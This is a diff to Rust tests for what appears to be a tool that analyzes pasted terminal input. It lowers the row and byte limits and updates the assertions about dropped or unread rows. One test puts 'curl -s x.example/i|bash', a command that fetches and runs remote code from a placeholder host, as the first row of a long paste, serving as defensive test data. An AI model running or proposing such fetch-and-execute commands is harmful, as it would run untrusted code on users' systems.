@@ -224,11 +224,11 @@ fn long_paste(rows: &[String]) -> Vec<u8> {
 }
 
 /// The screen keeps a region's rows until it ends (readline moves back up to redraw them);
-/// past its bound (16 Ki rows, or 1 Mi cells of long rows) the oldest rows are sent on
+/// past its bound (1,024 rows, or 1 MiB of cells for long rows) the oldest rows are sent on
 /// instead of dropped: a paste's first command once vanished behind the 64 rows after it.
 #[test]
 fn a_paste_longer_than_the_rows_kept_loses_none_of_them() {
-    for (count, width) in [(20_000, 0), (90, 16_000)] {
+    for (count, width) in [(10_000, 0), (60, 16_000)] {
         let mut rows = vec!["curl -s x.example/i|bash".to_string()];
         rows.extend((0..count).map(|i| format!("echo {i}{}", "x".repeat(width))));
         let bytes = long_paste(&rows);
@@ -245,7 +245,7 @@ fn a_paste_longer_than_the_rows_kept_loses_none_of_them() {
     }
 }
 
-/// The shell keeps a region's rows up to 4 MiB: a longer paste's last rows are not read, and
+/// The shell keeps a region's rows up to 1 MiB: a longer paste's last rows are not read, and
 /// the report says so (nothing is dropped silently).
 #[test]
 fn a_paste_past_what_the_shell_keeps_says_what_was_not_read() {
@@ -253,6 +253,6 @@ fn a_paste_past_what_the_shell_keeps_says_what_was_not_read() {
     let report = Analyzer::default().analyze_bytes(&long_paste(&rows), Input::default());
     assert_eq!(report.commands[0].command, "echo 0 padding padding");
     let note = report.stats.parse_warnings.iter().find(|w| w.contains("were not read"));
-    assert!(note.is_some_and(|n| n.contains("more than 4194304 bytes")), "{:?}", note);
+    assert!(note.is_some_and(|n| n.contains("more than 1048576 bytes")), "{:?}", note);
     assert!(report.commands.len() < rows.len(), "the rows past the bound are not commands");
 }
